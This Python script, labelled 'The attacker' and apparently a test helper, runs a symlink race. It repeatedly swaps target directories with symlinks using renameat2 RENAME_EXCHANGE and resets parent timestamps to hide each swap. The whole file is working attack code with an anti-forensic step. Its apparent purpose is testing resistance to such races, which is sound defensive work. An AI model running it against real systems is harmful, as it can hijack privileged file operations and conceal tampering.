# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The attacker: exchanges directories for symlinks to somewhere else, as fast as the kernel can.

swapper.py SECONDS_SINCE_EPOCH ASIDE DIRECTORY...: every directory named has its symlink in ASIDE, under
its own number. The directories' parents are held open, so they are found wherever they are renamed to.
Times are put back after each exchange, so that nothing gives it away. Prints a line when it has begun,
and how often it exchanged at the end, which is when its input ends.
"""

from __future__ import annotations

import ctypes
import os
import select
import sys

_RENAME_EXCHANGE = 2  # renameat2(2)


def main() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    then = int(sys.argv[1])
    aside = os.open(sys.argv[2], os.O_RDONLY)
    parents: dict[str, int] = {}
    targets = []
    for number, path in enumerate(sys.argv[3:]):
        parent, name = os.path.split(path)
        if parent not in parents:
            parents[parent] = os.open(parent, os.O_RDONLY)
        targets.append((parents[parent], os.fsencode(name), str(number).encode()))
    exchanged = 0
    while exchanged < 1000 or not select.select([sys.stdin], [], [], 0)[0]:
        for parent, name, spare in targets:
            if libc.renameat2(parent, name, aside, spare, _RENAME_EXCHANGE) == 0:
                exchanged += 1
                os.utime(parent, (then, then))
                if exchanged == 1000:
                    print("begun", flush=True)
    print(exchanged, flush=True)


if __name__ == "__main__":
    main()
